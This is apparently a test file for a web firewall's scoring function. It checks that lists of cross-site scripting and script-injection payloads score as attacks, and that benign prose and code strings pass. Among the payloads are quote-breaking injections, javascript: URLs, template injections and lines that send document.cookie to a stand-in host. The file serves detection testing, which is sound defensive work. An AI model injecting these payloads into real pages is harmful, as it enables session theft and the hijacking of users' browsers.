// biome-ignore-all lint/suspicious/noTemplateCurlyInString: templates of scripts write so.
import { deepStrictEqual } from "node:assert/strict";
import { describe, test } from "node:test";
import { SURE, weightOf } from "./weight.ts";

/** By what they have in common. Each of them does harm in a browser, in the place it is written for. */
const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  "calls between an operator and the next text": ["'-fetch('https://a.example')-'", "'-localStorage.clear()-'", '"*history.back()*"', "'^open('//a.example')^'", "x'<window.stop()<'", "'-document.getElementById('a').click()-'", "'==Reflect.get(self,'alert')(1)=='", "' + x.y.z(1) + '", "'-phpinfo()-'", "'%os.getlogin()%'", "'in print() in'", "'/(f=>f(1))(alert)/'"],
  "the same with other text before and behind it": ["a customer who has been with us for many years'-localStorage.clear()-'", "'-fetch('//a.example')-'abc", "';document.images[0].src='//a.example'//abc def", "It is great '-fetch('//a.example')-' and so on", "I don't know \"-open('//a.example')-\""],
  "statements that make a comment of the rest": ["';document.querySelector('form').action='//a.example'//", "');document.images[0].src='//a.example'//", "';const{alert:a}=window;a(1)//", "');x=new XMLHttpRequest;x.open('GET','/me');x.send()//", "'\nrequestIdleCallback(run)//", "';`${{toString:alert}}`//", "O';({a:alert}).a(1)<!--", "']);history.go(-1)//", "'if 0 else vars()#"],
  "functions that are handed to what calls them": ["'x'.replace(/x/,alert)", "JSON.parse('1',confirm)", "addEventListener('load',prompt)", "queueMicrotask(alert)", "new Promise(eval)", "({valueOf:alert})+1", "[...{[Symbol.iterator]:alert}]", "[alert][0](1)", "(alert||0)(1)", "[,alert].pop()(1)", "({a:alert}).a(1)", "(x=>x(1))(alert)", "for(f of[alert])f`1`", "[a]=[alert];a(1)", "Array.from`1${alert}`", "alert['call'](0,1)", "alert.valueOf()(1)", "window.onload=alert", "{alert:a}=self;a(1)", "alert//\n(1)"],
  "expressions behind a word of the language": ["void alert(1)", "typeof alert(1)", "1;throw onerror=alert,1", "let f=alert;f(1)", "new class{constructor(){alert(1)}}", "new function(){alert(1)}"],
  "addresses that begin with a statement": ["javascript:void alert(1)", "javascript:var a=print()", "javascript:new Function('a')()", "javascript:throw onerror=alert,1", "javascript:try{f()}catch(e){g()}", "javascript:do print();while(0)", "javascript:function f(){g()}f()", "javascript:0,print()", "javascript:a:print()", "javascript:`x`.replace(/x/,f)", "javascript:<!--%0aprint()", "javascript:async function f(){g()}f()", "javascript:class A{static{f()}}", "javascript:1 instanceof{[Symbol.hasInstance]:f}"],
  "a number, and what a page is told behind it": ["1;fetch('//a.example')", "0,localStorage.clear()", "1;document.body.innerHTML='x'", "7;history.back()", "0,new Image().src='//a.example'", "12;location.href='//a.example'", "1;onclick=e=>f(e)"],
  "expressions of a template": ["${print()}", "${sessionStorage.clear()}", "${document.title='x'}", "${new WebSocket('wss://a.example')}", "x${fetch('//a.example')}", "${document.forms[0].submit()}"],
  "cookies that are sent away": ["fetch('//a.example/'+document.cookie)", "new Image().src='https://a.example/?'+document.cookie", "var i=new Image;i.src='//a.example/?'+document.cookie", "location.href='//a.example/'+document.cookie"],
}; // biome-ignore format: one list each

const HONEST: Readonly<Record<string, readonly string[]>> = {
  "quotes and operators of prose": ["rock 'n' roll", "the boys' - and girls' - (school)", "5'-GGATCC(N)4-3'", "5'-d(TTAGGG)n-3'", "6'-2\" (tall)", "O'Neil-Smith (née 'x')", "'a' - 'b' (see below)", "the students' - well, see f(x) in C#", "'quoted' / (other) / 'text'", "Jim 'Jimbo'-Jones", "it's = (is) it", "\"a\" <b@example.com>, \"c(d)\" <e@example.com>", "the '-' key(s)", "'+' and '-' (signs)", "1' x 2' (approx.) //", "'; that is all (really) #1"],
  "lines of programs": ["a.split(',').map(f) // done", "const x = a.split(',').map(f); // parse", "<a href=\"' + url() + '\">", "use '-flag(x)' to", "x = '' + f(y) + ''", "join(', ') + '.' // list"],
  "code in text": ["Use `foo` - `bar(x)` //", "`a.b()`, `c.d()`", "the `-x` flag(s) and `-y`", "use 'foo' + 'bar' to get 'foobar'", "call `alert` with (text)", "see `x`; then `y(z)`"],
  "words that are names of functions": ["[alert](https://example.com/a)", "[confirm][1]", "[alert] server down", "levels (info,warn,alert)", "type=alert", "{alert}", "`${prompt}`", "colors: [info, alert]", "Confirm (yes/no)", "alert, confirm and prompt", "{\"type\":\"alert\",\"on\":true}", "new alert rules", "void where prohibited (see terms)", "let me confirm (again)", "onboarding=alert", "alert: see //wiki/x"],
  "addresses and languages": ["javascript: the good parts (book)", "javascript:new features (2024)", "javascript:void(0)", "javascript:;", "javascript:basics", "JavaScript: do this (and that)", "language:javascript:es6", "typescript:class names"],
  "numbers and lists": ["1, open (24h)", "12;Schraube(n)", "3,sin(x)", "100-avg(irate(x))", "1;2;3", "5; print it (twice)", "0,5 location", "2, document the API (soon)", "7;window seat", "1,navigator"],
  "templates of programs": ["${window.location.origin}", "${location.href}", "${navigator.language}", "${name}", "${user.id}/x", "${localStorage.getItem('token')}", "https://${location.host}/a", "${document.title}", "${x} = ${y}"],
}; // biome-ignore format: one list each

describe("The firewall, in what stands between the quotes of a program,", () => {
  for (const [what, values] of Object.entries(ATTACKS))
    test(`is sure of ${what}`, () => deepStrictEqual(values.filter((value) => weightOf(value) < SURE), [])); // biome-ignore format: one line
  for (const [what, values] of Object.entries(HONEST))
    test(`lets ${what} pass`, () => deepStrictEqual(values.filter((value) => weightOf(value) >= SURE), [])); // biome-ignore format: one line
});
